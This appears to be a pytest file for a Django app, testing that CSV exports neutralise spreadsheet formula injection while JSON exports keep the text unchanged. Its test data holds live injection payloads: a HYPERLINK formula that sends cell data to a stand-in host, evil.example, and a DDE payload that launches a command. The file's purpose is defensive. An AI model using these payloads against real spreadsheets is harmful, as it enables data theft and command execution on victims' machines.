"""CSV formula injection: the CSV export neutralises formulas, the JSON export keeps every value."""

import csv
import io
import json
import zipfile

import pytest
from django.urls import reverse

from groups import actions
from tests.factories import CodingSessionFactory, NoteFactory, ResourceFactory, WatchEventFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rCarriage return first",
]


def csv_rows(client, name):
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("accounts:export_csv")).content))
    return list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))


@pytest.fixture
def formulas(learner):
    resource = ResourceFactory(slug="lecture-1")
    for text in FORMULAS:
        NoteFactory(user=learner, resource=ResourceFactory(), text=text)
        CodingSessionFactory(user=learner, resource=resource, built=text)
    WatchEventFactory(user=learner, resource=resource, kind="unfinished", minutes=-30)
    return resource


def test_csv_cells_that_start_like_a_formula_get_a_leading_quote(learner_client, formulas):
    """=, +, -, @, tab and carriage return at the start of a cell are prefixed with a single quote."""
    notes = [row["text"] for row in csv_rows(learner_client, "notes.csv")]
    built = [row["built"] for row in csv_rows(learner_client, "coding_sessions.csv")]
    expected = ["'" + text for text in FORMULAS]
    assert sorted(notes) == sorted(expected)
    assert sorted(built) == sorted(expected)


def test_csv_cells_that_only_contain_those_characters_later_are_untouched(learner_client, learner):
    """A formula character inside the text, not at its start, is left as written."""
    NoteFactory(user=learner, text="a = b + c - d @ e")
    [note] = csv_rows(learner_client, "notes.csv")
    assert note["text"] == "a = b + c - d @ e"


def test_negative_minutes_stay_numbers_in_the_csv(learner_client, formulas):
    """An un-finish's signed minutes are a number, not text a spreadsheet would start with a quote."""
    [event] = csv_rows(learner_client, "watch_events.csv")
    assert event["minutes"] == "-30"


def test_a_username_that_starts_like_a_formula_is_neutralised_in_the_csv(client, db):
    """Usernames may start with "+", "-" or "@": the account file quotes them too."""
    from tests.factories import UserFactory

    client.force_login(UserFactory(username="@ada"))
    [account] = csv_rows(client, "account.csv")
    assert account["username"] == "'@ada"


def test_the_json_export_keeps_the_exact_text(learner_client, formulas):
    """JSON is data, not a spreadsheet: the same cells come back exactly as entered."""
    document = json.loads(learner_client.get(reverse("accounts:export_json")).content)
    assert sorted(note["text"] for note in document["notes"]) == sorted(FORMULAS)
    assert sorted(session["built"] for session in document["coding_sessions"]) == sorted(FORMULAS)
    assert [event["minutes"] for event in document["watch_events"]] == [-30]


def test_a_group_name_and_display_name_that_start_like_a_formula_are_neutralised_in_the_csv(
    learner_client, learner
):
    """Group names are written by their owners: memberships.csv quotes them, JSON keeps them."""
    actions.create_group(owner=learner, name="=1+1", display_name="@ada")
    [membership] = csv_rows(learner_client, "memberships.csv")
    document = json.loads(learner_client.get(reverse("accounts:export_json")).content)
    assert (membership["group"], membership["display_name"]) == ("'=1+1", "'@ada")
    assert [(row["group"], row["display_name"]) for row in document["memberships"]] == [
        ("=1+1", "@ada")
    ]
